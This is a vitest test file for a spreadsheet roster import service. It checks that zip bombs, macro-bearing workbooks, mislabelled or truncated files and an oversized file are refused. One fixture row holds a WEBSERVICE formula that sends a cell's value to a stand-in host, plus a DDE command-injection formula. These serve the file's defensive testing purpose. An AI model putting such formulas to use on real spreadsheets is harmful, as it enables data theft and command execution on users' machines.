import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { DeskClient } from '#door/client.ts'
import type { JobEvent } from '#shared/contract/procedure.ts'
import { zipOf } from '../fixtures/zip.ts'
import { openInProcess } from './doors.ts'
import { FOUNDING } from './founding.ts'

/** Files that were made to do harm, through the worker and its second worker. */
const place = mkdtempSync(join(tmpdir(), 'yingcai-hostile-'))
const files = new Map<string, { path: string; name: string }>()
let desk: DeskClient
let close: () => Promise<void>

beforeAll(async () => {
  const door = openInProcess(join(place, 'desk'))
  door.host.useFiles({
    find: (token) => files.get(token) ?? null,
    make: (name) => ({ token: name, path: join(place, name) }),
  })
  desk = door.client
  close = door.close
  await desk.desk.found(FOUNDING)
})
afterAll(async () => {
  await close()
  rmSync(place, { recursive: true, force: true })
})

function tokenFor(name: string, bytes: Uint8Array | string): string {
  const path = join(place, name)
  writeFileSync(path, bytes)
  files.set(name, { path, name })
  return name
}

async function ended<R>(events: Promise<AsyncIterable<JobEvent<R>>>): Promise<R> {
  for await (const event of await events) if (event.type === 'done') return event.result
  throw new Error('The job ended without a result')
}

describe('a hostile file', () => {
  /** One sheet with these rows of XML, among other parts. */
  const book = (rows: string, more: { readonly [part: string]: string } = {}) =>
    zipOf(
      Object.entries({
        'xl/workbook.xml': '<workbook><sheets><sheet name="名册" sheetId="1" r:id="r1"/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/a.xml"/></Relationships>`,
        'xl/worksheets/a.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
        ...more,
      }).map(([name, text]) => ({ name, text })),
    )
  const row = (at: number, ...cells: readonly string[]) =>
    `<row r="${at}">${cells.map((cell) => `<c t="inlineStr"><is><t>${cell}</t></is></c>`).join('')}</row>`
  const people = row(1, '姓名', '工作单位') + row(2, '某丁某', '单位丁')
  const pdf = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n\u0000\u0001\u0002'

  test.each([
    ['bomb.xlsx', () => book(' '.repeat(12_000_000)), 'workbook/not-readable'],
    ['macros.xlsm', () => book(people, { 'xl/vbaProject.bin': 'Attribute VB_Name' }), 'workbook/macros'],
    ['letter.xlsx', () => zipOf([{ name: 'word/document.xml', text: '<document/>' }]), 'workbook/not-readable'],
    ['paper.xls', () => Buffer.from(pdf, 'latin1'), 'workbook/not-readable'],
    ['half.xlsx', () => book(people).subarray(0, 300), 'workbook/not-readable'],
    ['old-macros.xls', () => oldWith('_VBA_PROJECT_CUR'), 'workbook/macros'],
  ])('is refused with the worker alive and the desk unchanged when it is %s', async (name, bytes, code) => {
    const { seq } = await desk.desk.status({})
    tokenFor(name, bytes())
    await expect(ended(desk.imports.run({ token: name, kind: 'roster' }))).rejects.toMatchObject({ code })
    expect(await desk.desk.status({})).toMatchObject({ state: 'open', seq, job: null, problems: [] })
  })

  test('is refused before it is read when it is two gigabytes of nothing', async () => {
    const token = tokenFor('nothing-large.xlsx', '')
    truncateSync(join(place, token), 2 * 1024 * 1024 * 1024)
    const reading = desk.imports.read({ token })
    await expect(reading).rejects.toMatchObject({ code: 'workbook/too-large' })
    expect((await desk.desk.status({})).state).toBe('open')
  })

  test('is read by what it is when its name says otherwise', async () => {
    tokenFor('workbook.csv', book(people))
    const { sheets } = await desk.imports.read({ token: 'workbook.csv' })
    expect(sheets).toMatchObject([{ name: '名册', filledRows: 2 }])
  })

  test('calls nobody and gives no value when its formulas call out or lead to another file', async () => {
    const calling =
      '<row r="3"><c t="str"><f>WEBSERVICE("http://example.invalid/"&amp;A2)</f></c><c t="str"><f>cmd|\' /C calc\'!A0</f></c></row>'
    const linked =
      '<row r="4"><c t="str"><f>[1]Sheet1!A1</f><v>某戊某</v></c><c t="inlineStr"><is><t>=1+1</t></is></c></row>'
    tokenFor(
      'calling.xlsx',
      book(people + calling + linked, { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
    )
    const { counts } = await ended(desk.imports.plan({ token: 'calling.xlsx', kind: 'roster' }))
    const report = await desk.imports.report({ token: 'calling.xlsx' })
    expect(report.refused.map(({ row: at, code }) => [at, code])).toEqual([[3, 'import/formula-without-value']])
    // What was worked out before stands in the cell; a text stays the text it is, and is text again when it goes out.
    expect(counts).toMatchObject({ rows: 3, holders: 2 })
  })
})

/** The wrapping of an old workbook with a stream of this name. */
function oldWith(stream: string): Buffer {
  const head = Buffer.from('d0cf11e0a1b11ae1', 'hex')
  const names = ['Workbook', stream].map((name) => Buffer.from(`${name}\0`, 'utf16le'))
  return Buffer.concat([head, Buffer.alloc(600), ...names])
}
